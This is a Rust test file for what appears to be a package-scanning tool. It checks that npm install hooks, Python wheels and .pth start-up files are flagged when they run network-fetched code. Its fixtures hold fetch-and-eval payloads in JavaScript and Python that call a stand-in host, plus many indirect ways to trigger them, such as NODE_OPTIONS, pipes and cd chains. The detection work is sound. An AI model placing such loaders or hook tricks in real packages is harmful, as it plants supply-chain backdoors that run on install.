//! Which files of the package command lines run.

use crate::flow::testing::remote_code;
use crate::unpack::{Entry, text_file as file};
use customs_model::Zone;

const GO: &str = "const go = () => require('https').get('https://a.invalid/b', (r) => {
    let d = ''; r.on('data', (c) => d += c); r.on('end', () => eval(d)) });\n";

const PYTHON: &str = "\
import urllib.request
def go(*more):
    exec(urllib.request.urlopen('https://a.invalid/b').read())
";

/// When the strongest zone is in which something is run that was fetched.
fn when(entries: Vec<Entry>) -> Option<Zone> {
    remote_code(entries)
}

/// Whether a hook of npm runs what is fetched, with these files and entries of the manifest.
fn hook_with(line: &str, manifest: &str, files: &[(&str, &str)]) -> bool {
    let mut json: serde_json::Value = serde_json::from_str(manifest).unwrap();
    json["name"] = "a".into();
    json["version"] = "1.0.0".into();
    json["scripts"]["postinstall"] = line.into();
    let manifest = json.to_string();
    let mut entries = vec![file("package/package.json", &manifest)];
    entries.extend(
        files
            .iter()
            .map(|(path, text)| file(&format!("package/{path}"), text)),
    );
    when(entries) == Some(Zone::Install)
}

/// The same where `x.js` fetches once it runs, and the hook is this line.
fn hook(line: &str) -> bool {
    hook_with(line, "{}", &[("x.js", &format!("{GO}go()\n"))])
}

/// The same where the hook runs this code.
fn code(text: &str) -> bool {
    let x = format!("{GO}go()\n");
    hook_with("node i.js", "{}", &[("i.js", text), ("x.js", &x)])
}

#[test]
fn a_file_that_code_starts_as_a_process_runs_when_the_code_does() {
    for call in [
        "spawn('node', [__dirname + '/x.js'], { detached: true })",
        "spawn(process.execPath, [__dirname + '/x.js']).unref()",
        "execSync('bun ' + __dirname + '/x.js')",
        "exec('node ' + require('path').join(__dirname, 'x.js'))",
        "exec('node x.js')",
        "execFileSync('node', ['-e', \"require('child_process').execSync('node x.js')\"])",
    ] {
        let used = format!("const c = require('child_process');\nc.{call}\n");
        assert!(code(&used), "{call}");
        assert!(!code(&format!("const f = () => {{ {used} }};\n")), "{call}");
    }
    assert!(!code("console.log('node ' + __dirname + '/x.js')"));
}

#[test]
fn a_name_without_the_package_s_folder_is_one_of_the_user_s_folder_once_it_is_installed() {
    let imported = |call: &str| {
        let used = format!("require('child_process').{call}\n");
        when(vec![
            file(
                "package.json",
                r#"{"name": "a", "version": "1.0.0", "main": "i.js"}"#,
            ),
            file("i.js", &used),
            file("x.js", &format!("{GO}go()\n")),
        ])
    };
    assert_eq!(
        imported("exec('node ' + __dirname + '/x.js')"),
        Some(Zone::Import)
    );
    assert_eq!(imported("exec('node x.js')"), None);
    assert_eq!(imported("exec('node -e \"require(\\'./x\\')()\"')"), None);
}

/// When a wheel runs what it fetches, whose module runs this code beside `a/b.py`.
fn wheel(text: &str, other: &str) -> Option<Zone> {
    when(vec![
        file("a/__init__.py", text),
        file("a/b.py", &format!("{PYTHON}{other}")),
        file("a-1.0.dist-info/METADATA", "Name: a\nVersion: 1.0\n"),
    ])
}

#[test]
fn a_module_of_python_that_code_starts_runs_with_its_main_block() {
    let main = "if __name__ == '__main__':\n    go()\n";
    let used = "import os, sys, subprocess\n";
    for call in [
        "subprocess.Popen([sys.executable, '-m', 'a.b'])",
        "subprocess.run([sys.executable, os.path.join(os.path.dirname(__file__), 'b.py')])",
        "subprocess.run([sys.executable, '-c', 'from a.b import go; go()'])",
    ] {
        let text = format!("{used}{call}\n");
        assert_eq!(wheel(&text, main), Some(Zone::Import), "{call}");
        let calm = format!("{used}def f():\n    {call}\n");
        assert_ne!(wheel(&calm, main), Some(Zone::Import), "{call}");
    }
    let calm = format!("{used}subprocess.run([sys.executable, '-c', 'from a.b import go'])\n");
    assert_ne!(wheel(&calm, main), Some(Zone::Import));
    let calm = format!("{used}subprocess.run([sys.executable, '-m', 'pip'])\n");
    assert_ne!(wheel(&calm, main), Some(Zone::Import));
}

#[test]
fn a_text_in_a_hook_calls_what_it_loads() {
    let exported = [("x.js", format!("{GO}exports.run = go\n"))];
    let files: Vec<(&str, &str)> = exported
        .iter()
        .map(|(path, text)| (*path, &**text))
        .collect();
    let run = |line: &str| hook_with(line, "{}", &files);
    assert!(run("node -e \"require('./x').run()\""));
    assert!(!run("node -e \"require('./x')\""));
    assert!(!run("node -e \"require('./x').other()\""));
}

#[test]
fn a_line_that_runs_at_each_start_calls_what_it_imports() {
    let start = |line: &str, module: &str| {
        when(vec![
            file("x.pth", &format!("{line}\n")),
            file("x.py", module),
            file("a-1.0.dist-info/METADATA", "Name: a\nVersion: 1.0\n"),
        ])
    };
    assert_eq!(start("import x; x.go()", PYTHON), Some(Zone::Start));
    assert_eq!(
        start(
            "import x; x.f(x.go)",
            &format!("{PYTHON}def f(g):\n    g()\n")
        ),
        Some(Zone::Start)
    );
    assert_ne!(start("import x", PYTHON), Some(Zone::Start));
    let shim = "import os; os.environ.get('A') and __import__('x').add()";
    let calm = format!("{PYTHON}def add():\n    pass\n");
    assert_ne!(start(shim, &calm), Some(Zone::Start));
}

#[test]
fn a_hook_runs_a_file_by_what_its_shell_makes_of_the_line() {
    for line in [
        "node < x.js",
        "node - < x.js",
        "cat x.js | node",
        "$npm_node_execpath x.js",
        "$(which node) x.js",
        "nice -n 5 node x.js",
        "timeout -k 5 1m node x.js",
        "cd . && node x.js",
    ] {
        assert!(hook(line), "{line}");
    }
    for line in [
        "cat x.js",
        "cat x.js | grep a",
        "which node x.js",
        "wc < x.js",
        "nice -n 5 cat x.js",
    ] {
        assert!(!hook(line), "{line}");
    }
}

#[test]
fn what_follows_a_change_of_the_folder_runs_there() {
    let y = format!("{GO}go()\n");
    let run = |line: &str, script: &str| {
        hook_with(
            line,
            "{}",
            &[
                ("lib/y.js", &y),
                ("y.js", "1\n"),
                ("lib/a.sh", script),
                ("b.sh", script),
            ],
        )
    };
    for (line, script) in [
        ("cd lib && node y.js", ""),
        ("cd ./lib; node ./y", ""),
        ("cd lib && sh ./a.sh", "node y.js"),
        ("sh lib/a.sh", "node \"$(dirname \"$0\")/y.js\""),
        ("./lib/a.sh", "cd \"$(dirname \"$0\")\" && node y.js"),
        (
            "sh lib/a.sh",
            "D=\"$(cd \"$(dirname \"$0\")\" && pwd)\"\nnode \"$D/y.js\"",
        ),
        ("cd lib && cd .. && cd lib && node y.js", ""),
    ] {
        assert!(run(line, script), "{line} {script}");
    }
    for (line, script) in [
        ("node y.js; cd lib", ""),
        ("(cd lib); node y.js", ""),
        ("cd lib && cd .. && node y.js", ""),
        ("cd lib && cd - && node y.js", ""),
        ("sh -c 'cd lib'; node y.js", ""),
        ("sh lib/a.sh", "node y.js"),
        ("sh b.sh", "node \"$(dirname \"$0\")/y.js\""),
        ("cd lib && sh ../b.sh", "cd ..; node y.js"),
    ] {
        assert!(!run(line, script), "{line} {script}");
    }
}

#[test]
fn options_of_node_load_files_first() {
    for line in [
        "node --require=./x.js a.js",
        "node -r ./x.js a.js",
        "node --import=./x.js a.js",
        "node --eval=\"require('./x.js')\"",
        "node -C dev x.js",
        "NODE_OPTIONS='-r ./x.js' npm -v",
        "NODE_OPTIONS=--require=./x.js node a.js",
        "cross-env NODE_OPTIONS='-r ./x.js' node a.js",
    ] {
        assert!(hook(line), "{line}");
    }
    for line in [
        "node --title=./x.js a.js",
        "node -C ./x.js a.js",
        "NODE_OPTIONS='-r ./x.js' echo a",
        "NODE_OPTIONS=--title=./x.js node a.js",
    ] {
        assert!(!hook(line), "{line}");
    }
}

#[test]
fn npm_and_its_kin_run_what_the_manifest_names() {
    let x = format!("{GO}go()\n");
    let runs = |line: &str, manifest: &str| hook_with(line, manifest, &[("x.js", &x)]);
    let script = r#"{"scripts": {"z": "node x.js", "test": "node x.js"}}"#;
    for line in [
        "yarn z",
        "pnpm z",
        "bun z",
        "npm t",
        "npm test",
        "npm run -s z",
        "npm run z",
        "node --run z",
    ] {
        assert!(runs(line, script), "{line}");
        assert!(!runs(line, "{}"), "{line}");
    }
    let bin = r#"{"bin": {"z": "x.js"}}"#;
    assert!(runs("npx z", bin) && !runs("npx tsc", bin));
    assert!(runs(
        "npm run z",
        r#"{"scripts": {"z": "echo", "prez": "node x.js"}}"#
    ));
    assert!(!runs(
        "npm run z",
        r#"{"scripts": {"z": "echo", "y": "node x.js"}}"#
    ));
    assert!(!runs("npm z", script) && !runs("yarn add z", script));
    let inner = r#"{"name": "l", "scripts": {"postinstall": "node y.js"}}"#;
    let files = [("lib/package.json", inner), ("lib/y.js", &*x)];
    assert!(hook_with("npm i ./lib", "{}", &files));
    assert!(hook_with("cd lib && npm install", "{}", &files));
    assert!(!hook_with("npm i lib", "{}", &files));
}
